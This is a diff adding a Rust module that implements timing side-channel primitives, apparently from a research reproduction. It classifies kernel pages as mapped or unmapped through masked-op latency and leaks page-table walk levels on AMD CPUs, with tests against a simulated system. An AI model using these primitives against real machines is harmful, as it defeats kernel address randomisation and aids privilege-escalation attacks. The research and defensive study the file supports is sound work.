@@ -1,0 +1,209 @@
+//! The page-table attack primitive (P2/P3).
+//!
+//! Distinguishes present from non-present pages through masked-op
+//! latency (P2) and, on CPUs where the P-bit is invisible (AMD), leaks
+//! the page-table level at which the walk terminates (P3).
+
+use avx_mmu::VirtAddr;
+use avx_uarch::OpKind;
+
+use crate::calibrate::Threshold;
+use crate::prober::{ProbeStrategy, Prober};
+use crate::stats::two_means_threshold;
+
+/// P2: mapped/unmapped classification of arbitrary (incl. kernel) pages.
+#[derive(Clone, Copy, Debug)]
+pub struct PageTableAttack {
+    /// Decision threshold.
+    pub threshold: Threshold,
+    /// Measurement composition (paper default: probe twice, keep 2nd).
+    pub strategy: ProbeStrategy,
+    /// Which op to time (loads by default; stores are ~17 cycles faster
+    /// and equally usable, P6).
+    pub op: OpKind,
+}
+
+impl PageTableAttack {
+    /// A paper-default attack instance for a calibrated threshold.
+    #[must_use]
+    pub fn new(threshold: Threshold) -> Self {
+        Self {
+            threshold,
+            strategy: ProbeStrategy::SecondOfTwo,
+            op: OpKind::Load,
+        }
+    }
+
+    /// Times one candidate page.
+    pub fn measure<P: Prober + ?Sized>(&self, p: &mut P, addr: VirtAddr) -> u64 {
+        self.strategy.measure(p, self.op, addr)
+    }
+
+    /// `true` if the candidate classifies as mapped.
+    pub fn is_mapped<P: Prober + ?Sized>(&self, p: &mut P, addr: VirtAddr) -> bool {
+        self.threshold.is_mapped(self.measure(p, addr))
+    }
+
+    /// Measures `count` candidates at `stride` from `start`; returns the
+    /// raw latencies (the Fig. 4 series).
+    pub fn measure_range<P: Prober + ?Sized>(
+        &self,
+        p: &mut P,
+        start: VirtAddr,
+        stride: u64,
+        count: u64,
+    ) -> Vec<u64> {
+        (0..count)
+            .map(|i| self.measure(p, start.wrapping_add(i * stride)))
+            .collect()
+    }
+
+    /// Classifies a measured series with the attack's threshold.
+    #[must_use]
+    pub fn classify(&self, samples: &[u64]) -> Vec<bool> {
+        samples.iter().map(|&s| self.threshold.is_mapped(s)).collect()
+    }
+}
+
+/// P3: walk-termination-level leakage, the signal used against AMD
+/// (§IV-B) where P2 is unavailable.
+#[derive(Clone, Copy, Debug)]
+pub struct LevelAttack {
+    /// Probes per candidate (minimum taken; spikes only add latency).
+    pub repeats: u8,
+}
+
+impl Default for LevelAttack {
+    fn default() -> Self {
+        Self { repeats: 6 }
+    }
+}
+
+impl LevelAttack {
+    /// Measures each candidate with a min-filter.
+    pub fn measure_range<P: Prober + ?Sized>(
+        &self,
+        p: &mut P,
+        start: VirtAddr,
+        stride: u64,
+        count: u64,
+    ) -> Vec<u64> {
+        let strategy = ProbeStrategy::MinOf(self.repeats);
+        (0..count)
+            .map(|i| strategy.measure(p, OpKind::Load, start.wrapping_add(i * stride)))
+            .collect()
+    }
+
+    /// Finds the slow outliers of a series — candidates whose walks
+    /// terminate deeper (PT) than the surrounding baseline (PD).
+    ///
+    /// Returns indices of outliers, or an empty vector when the series
+    /// is unimodal (no PT-mapped candidates in range).
+    #[must_use]
+    pub fn outliers(&self, samples: &[u64]) -> Vec<usize> {
+        let Some(split) = two_means_threshold(samples) else {
+            return Vec::new();
+        };
+        // Require a real gap: at least 10 cycles between cluster means,
+        // otherwise the split is noise.
+        let slow: Vec<usize> = samples
+            .iter()
+            .enumerate()
+            .filter(|(_, &s)| (s as f64) > split)
+            .map(|(i, _)| i)
+            .collect();
+        if slow.is_empty() || slow.len() == samples.len() {
+            return Vec::new();
+        }
+        let fast_max = samples
+            .iter()
+            .filter(|&&s| (s as f64) <= split)
+            .max()
+            .copied()
+            .unwrap_or(0);
+        let slow_min = slow.iter().map(|&i| samples[i]).min().unwrap_or(u64::MAX);
+        if slow_min.saturating_sub(fast_max) < 10 {
+            return Vec::new();
+        }
+        slow
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::prober::SimProber;
+    use avx_os::linux::{LinuxConfig, LinuxSystem, KASLR_ALIGN, KERNEL_TEXT_REGION_START};
+    use avx_uarch::{CpuProfile, NoiseModel};
+
+    fn intel_prober(seed: u64) -> (SimProber, avx_os::LinuxTruth) {
+        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
+        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
+        m.set_noise(NoiseModel::none());
+        (SimProber::new(m), truth)
+    }
+
+    #[test]
+    fn p2_distinguishes_kernel_mapped_from_unmapped() {
+        let (mut p, truth) = intel_prober(1);
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let attack = PageTableAttack::new(th);
+        assert!(attack.is_mapped(&mut p, truth.kernel_base));
+        let hole = VirtAddr::new_truncate(
+            truth.kernel_base.as_u64() + (truth.kernel_slots + 3) * KASLR_ALIGN,
+        );
+        if hole.as_u64() < avx_os::linux::KERNEL_TEXT_REGION_END {
+            assert!(!attack.is_mapped(&mut p, hole));
+        }
+    }
+
+    #[test]
+    fn measure_range_produces_series() {
+        let (mut p, truth) = intel_prober(2);
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let attack = PageTableAttack::new(th);
+        let series = attack.measure_range(
+            &mut p,
+            VirtAddr::new_truncate(KERNEL_TEXT_REGION_START),
+            KASLR_ALIGN,
+            64,
+        );
+        assert_eq!(series.len(), 64);
+        let classes = attack.classify(&series);
+        assert_eq!(classes.len(), 64);
+    }
+
+    #[test]
+    fn p3_finds_pt_outliers_on_amd() {
+        let sys = LinuxSystem::build(LinuxConfig {
+            fixed_slide: Some(100),
+            ..LinuxConfig::seeded(3)
+        });
+        let (mut m, truth) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), 3);
+        m.set_noise(NoiseModel::none());
+        let mut p = SimProber::new(m);
+        let attack = LevelAttack::default();
+        let series = attack.measure_range(
+            &mut p,
+            VirtAddr::new_truncate(KERNEL_TEXT_REGION_START),
+            KASLR_ALIGN,
+            512,
+        );
+        let outliers = attack.outliers(&series);
+        // The five 4 KiB-split slots stand out at their in-image offsets
+        // (slots 8, 9, 10, 18, 19 relative to the slide of 100).
+        let expected: Vec<usize> = vec![108, 109, 110, 118, 119];
+        assert_eq!(outliers, expected);
+        let _ = truth;
+    }
+
+    #[test]
+    fn p3_outliers_empty_on_flat_series() {
+        let attack = LevelAttack::default();
+        assert!(attack.outliers(&[285; 64]).is_empty());
+        assert!(attack.outliers(&[]).is_empty());
+        // Small jitter without a real gap: no outliers.
+        let jitter: Vec<u64> = (0..64).map(|i| 285 + (i % 3)).collect();
+        assert!(attack.outliers(&jitter).is_empty());
+    }
+}
